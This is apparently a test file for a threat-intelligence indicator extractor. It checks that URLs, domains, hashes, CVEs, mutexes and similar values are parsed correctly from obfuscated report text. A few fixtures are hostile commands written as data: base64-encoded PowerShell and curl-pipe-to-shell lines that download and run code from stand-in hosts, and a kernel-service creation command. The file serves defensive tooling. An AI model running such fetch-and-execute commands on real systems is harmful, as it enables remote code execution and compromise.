import { createHash } from "node:crypto";

import { describe, expect, test } from "vitest";
import { extract } from "./extract.ts";

const sha1 = createHash("sha1").update("layout").digest("hex");
const sha256 = createHash("sha256").update("layout").digest("hex");
const md5 = createHash("md5").update("layout").digest("hex");

/** In fours, eights or twos, with a space between them. */
function grouped(hash: string, size: number): string {
  return (hash.match(new RegExp(`.{${size}}`, "g")) ?? []).join(" ");
}

const ssdeep =
  "96:s4Ud1Lj96tHHlZDrwciQmA+4uy1I0G4HYuL8N3TzS8QsO/wqWXLcMSx:sF1LjEtHHlZDrJzrhuyZvHYm8tKp/RWO";
const wide = Buffer.from("IEX (Download 'http://drop.xyz/a.ps1')", "utf16le").toString("base64");
const narrow = Buffer.from("curl -s http://drop.xyz/b | sh\n").toString("base64");
const token = Buffer.from('{"iss":"https://login.example.net/1"}').toString("base64");

describe("values are found as programs, viewers and word processors lay them out", () => {
  const cases: [string, string[]][] = [
    ["mail admin\\@leak-site\\.cc", ["email admin@leak-site.cc"]],
    ["at https\\://leak-site\\.cc/auth", ["url https://leak-site.cc/auth"]],
    ["href=&quot;http&#58;//drop&#46;zone-a&#46;biz/x&quot; a", ["url http://drop.zone-a.biz/x"]],
    ["link:++https://drop.xyz/x[1].bin++[it]", ["url https://drop.xyz/x[1].bin"]],
    ["<http://drop.xyz/path/one/\r\n  two.php>", ["url http://drop.xyz/path/one/two.php"]],
    ["<http://drop.xyz/path\nand more text", ["url http://drop.xyz/path"]],
    ["cve-2023\u201346805, CVE\u20132021\u201334527", ["cve CVE-2023-46805", "cve CVE-2021-34527"]],
    [`Thumbprint: ${grouped(sha1, 2)}`, [`sha1 ${sha1}`]],
    [`sha1: ${grouped(sha1, 8)} (loader)`, [`sha1 ${sha1}`]],
    [`Key fingerprint: ${grouped(sha1.toUpperCase(), 4)}`, []],
    [
      `SHA256   ${sha256.slice(0, 32)}\n         ${sha256.slice(32)}\nSize 13`,
      [`sha256 ${sha256}`],
    ],
    [`hash ${sha256.slice(0, 40)}-\n${sha256.slice(40)}`, [`sha256 ${sha256}`]],
    [`${sha256.slice(0, 32)}\u00ad${sha256.slice(32)}`, [`sha256 ${sha256}`]],
    [`JA3 fingerprint: ${md5}`, [`ja3 ${md5}`]],
    [`"ja3":{"hash":"${md5}","string":"771"}`, [`ja3 ${md5}`]],
    [`JA3 and MD5 ${md5}`, [`md5 ${md5}`]],
    ['{"ua":"curl\\/8.1.2","x":1}', ["user-agent curl/8.1.2"]],
    ['"userAgent":"aws-cli/2.9 Python/3.9"', ["user-agent aws-cli/2.9 Python/3.9"]],
    ["\tMozilla/4.0 (compatible)\t0\t200", ["user-agent Mozilla/4.0 (compatible)"]],
    ["UA: Dalvik/2.1.0 (Linux; U) and more", ["user-agent Dalvik/2.1.0 (Linux; U)"]],
    ["PipeName: \\mojo.5688.1 Image: x", ["named-pipe \\\\.\\pipe\\mojo.5688.1"]],
    ["under HKEY_USERS\\.DEFAULT\\Software\\X", ["registry-key HKEY_USERS\\.DEFAULT\\Software\\X"]],
    ["opens \\\\?\\C:\\x\\y.sys first", ["windows-path C:\\x\\y.sys"]],
    [
      '> `drop tls any any -> any 443 (msg:"x"; sid:7;)`',
      ['snort-rule drop tls any any -> any 443 (msg:"x"; sid:7;)'],
    ],
    [
      "Mutexes:\n- Global\\IFX17Abn\n- 8-3503835SZB\n",
      ["mutex Global\\IFX17Abn", "mutex 8-3503835SZB"],
    ],
    [
      "域名evil-cjk.com和IP地址103.45.67.89，MD5为44d88612fea8a8f36de82e1278abb02e。",
      ["domain evil-cjk.com", "ipv4 103.45.67.89", "md5 44d88612fea8a8f36de82e1278abb02e"],
    ],
    [
      "样本2024年报告.pdf；支付宝.中国",
      ["file-name 2024年报告.pdf", "domain xn--bnq242a7nh.xn--fiqs8s"],
    ],
    ["evil.com에서 받은 เปิดevil.netแล้ว", ["domain evil.com", "domain evil.net"]],
    [
      "IP 10.1.2.3.51234 > 45.9.148.1.443: Flags; 2a10:4740:40::77.443 > x",
      ["ipv4 10.1.2.3", "ipv4 45.9.148.1", "ipv6 2a10:4740:40::77"],
    ],
    ["sc create EvilDrv type= kernel binPath= x", ["service EvilDrv"]],
    ["ServiceName=AdobeUpd;", ["service AdobeUpd"]],
    ["ran file:///tmp/a.sh", ["unix-path /tmp/a.sh"]],
    ["Signed by: Beijing Join Ltd.; valid", ["signer Beijing Join Ltd"]],
    ["<td>Mutex:</td>&nbsp;<td>Local\\{9A1C-77}</td>", ["mutex Local\\{9A1C-77}"]],
    ['"user_agent":{"original":"Wget/1.2 (linux)"}}', ["user-agent Wget/1.2 (linux)"]],
    [
      "serial_number = '02:08:87:83:f2:13:58:1f:79:52:1e:66:90:0a:02:24:c9:6b:c7:dc'",
      ["certificate-serial 02088783f213581f79521e66900a0224c96bc7dc"],
    ],
    ["203.0.113.\u200b55", ["ipv4 203.0.113.55"]],
    ['the named pipe "mypipe-f1"', ["named-pipe \\\\.\\pipe\\mypipe-f1"]],
    ["http://drop.xyz/a<wbr>/b.bin<br>", ["url http://drop.xyz/a/b.bin"]],
    ["call +49 (0) 89 / 12 34 56-0 now", ["phone +49891234560"]],
    ["TCP_MISS/200 HIER_DIRECT/185.215.113.66 -", ["ipv4 185.215.113.66"]],
    ["peer.example.net/185.215.113.66:443", ["domain peer.example.net", "ipv4 185.215.113.66"]],
    ["CEF:0|Acme|IDS|7.1.0.2|100|Worm|10|src=45.9.1.2", ["ipv4 45.9.1.2"]],
    ["affects 9.0.0.1 through 9.0.0.21, fixed in 9.0.0.22; JDK 11.0.2.9", []],
    ["FileVersion=1.0.0.1 and 7.1.2.3 or earlier, gitlab 10.1.2.3", ["ipv4 10.1.2.3"]],
    ["the agent version is 3.4.5.6, see section 2.5.29.17", []],
    ["Subject: C=RU, L=Moscow, O=Foo, CN=LLC Progress Soft", ["signer LLC Progress Soft"]],
    ['Subject: CN="XL Tech, Inc.", O="XL Tech, Inc.", C=UA', ["signer XL Tech, Inc"]],
    ["Signer: Zhu Manufacturing Co., Ltd. Serial: none", ["signer Zhu Manufacturing Co., Ltd"]],
    ["to +45.9.148.1+ and `+45.9.0.0/16+`.", ["ipv4 45.9.148.1", "cidr 45.9.0.0/16"]],
    ["* +login-check.top+ in use", ["domain login-check.top"]],
    ["**cpe:/a:acme:box:1.2**", ["cpe cpe:/a:acme:box:1.2"]],
    [`ssdeep: +${ssdeep}+`, [`ssdeep ${ssdeep}`]],
    ["the mutex named `+Global\\ab_1+` and **cd_2**", ["mutex Global\\ab_1"]],
    ['{"note":"the mutex \\"Local\\\\SM0_1\\" is odd"}', ["mutex Local\\SM0_1"]],
    [
      "(mutex: Local\\SM0_1), <p>mutex: <code>QX_7</code></p>",
      ["mutex Local\\SM0_1", "mutex QX_7"],
    ],
    ["a mutex named\n> Global\\ab_1 first", ["mutex Global\\ab_1"]],
    ["the service name is NetDiagSvc.", ["service NetDiagSvc"]],
    ["They created the service MSUpdSvc64 there.", ["service MSUpdSvc64"]],
    ["It installs a new service `WinHlp_svc`.", ["service WinHlp_svc"]],
    ["It created the service desk ticket and removed the service account svc_backup.", []],
    ["They added a service in 2024 and stopped the service CVE4U-2.", ["service CVE4U-2"]],
    ["the service name is not known, the service names of the host", []],
    [
      "User-Agent: <code>Wget/1.2</code>; UA: Wget/1.3\u00a0x",
      ["user-agent Wget/1.2", "user-agent Wget/1.3"],
    ],
    [
      "\\\\drop.example.net@SSL\\DavWWWRoot\\x.dll",
      ["unc-path \\\\drop.example.net@SSL\\DavWWWRoot\\x.dll"],
    ],
    [
      "UA: Mozilla/5.0 (X11) Gecko/<digits>.<digits> X/7.0",
      ["user-agent Mozilla/5.0 (X11) Gecko/<digits>.<digits> X/7.0"],
    ],
    ["<td>/etc/cron.d/upd</td> a->/etc/cron.d/no", ["unix-path /etc/cron.d/upd"]],
    [
      "HKLM\\Software\\Runを使用した。C:\\x\\報告書.exe",
      ["registry-key HKLM\\Software\\Run", "windows-path C:\\x\\報告書.exe"],
    ],
    [`JA3 client hash: ${md5}`, [`ja3 ${md5}`]],
    [`the imphash\n> ${md5}`, [`imphash ${md5}`]],
    [`MD5 | SHA-1 | Imphash\n${md5}`, [`md5 ${md5}`]],
    [
      "Serial Number:\n        0c:59:d4:65:80:f0:39:af:2c:4a:b6:ba:0f:fe:d1:97",
      ["certificate-serial 0c59d46580f039af2c4ab6ba0ffed197"],
    ],
    ["Subject: CN=Li Tech Co., Ltd., O=Hangzhou, C=CN", ["signer Li Tech Co., Ltd"]],
    ["hxxp://drop(.)zone(.)biz/gate(.)php?a={.}", ["url http://drop.zone.biz/gate.php?a="]],
    ["2a0a[:]4740[:][:]77 seen", ["ipv6 2a0a:4740::77"]],
    [
      "\u200eCVE-2023-1234\u200f, \u202a2a0a:4740::77\u202c \u2066QakBot\u2069 \u200e3c:22:fb:9a:01:7e",
      ["cve CVE-2023-1234", "ipv6 2a0a:4740::77", "malware QakBot", "mac 3c:22:fb:9a:01:7e"],
    ],
    [
      `powershell -enc ${wide}; echo ${narrow} | base64 -d`,
      ["url http://drop.xyz/a.ps1", "url http://drop.xyz/b"],
    ],
    [`Bearer ${token}`, []],
  ];
  test.each(cases)("%s", (text, wanted) => {
    const found = extract(text);
    expect(found.map(({ type, value }) => `${type} ${value}`)).toEqual(wanted);
    for (const { start, end, raw } of found) expect(text.slice(start, end)).toBe(raw);
  });
});

describe("what is around a dotted name says whether it is one of the network", () => {
  const cases: [string, string[]][] = [
    ["The domains up-kb.zip and get-it.sh resolve", ["domain up-kb.zip", "domain get-it.sh"]],
    ["my-up.zip resolves to it", ["domain my-up.zip"]],
    ["host build.zip resolves to it", ["domain build.zip"]],
    [
      "ran main.py, core.rs and later cdn.gate.rs",
      ["file-name main.py", "file-name core.rs", "domain cdn.gate.rs"],
    ],
    [
      "C2 at cdn.bad-actor[.]top, hosted at evil[.]com",
      ["domain cdn.bad-actor.top", "domain evil.com"],
    ],
    ["Gamaredon and Lazarus met in Beijing", ["actor Gamaredon Group", "actor Lazarus Group"]],
    ["vgl. Abschn. 4.2.1.3, z.B.der Rest", []],
    ["the domain controller ran back-up.sh", ["file-name back-up.sh"]],
    ["It asked bad-glue.com.Then it slept.", ["domain bad-glue.com"]],
    ["It ran evil.exe.It slept.", ["file-name evil.exe"]],
    ["from 5 p.m.to 6 p.m. daily", []],
    ["console.log(group.name, groupItem.id); if (task.id === 4) chalk.red('x')", []],
    ["const id = `${a.worker.id}`; logger.info(x); foo.bar", []],
    ["app.js.map of style.min.css.map", ["file-name app.js.map", "file-name style.min.css.map"]],
    [
      "see login-form.page (10 hits) and secure.support",
      ["domain login-form.page", "domain secure.support"],
    ],
    ["one service's cache of another service's", []],
    ["00112233445566778899aabbccddeeff 000102030405060708090a0b0c0d0e0f", []],
    [`csrf_token: ${md5}; AES key: ${md5}; parent ${sha1}`, []],
    ["you mistype a word; HttpClient is called", []],
  ];
  test.each(cases)("%s", (text, wanted) => {
    expect(extract(text).map(({ type, value }) => `${type} ${value}`)).toEqual(wanted);
  });
});
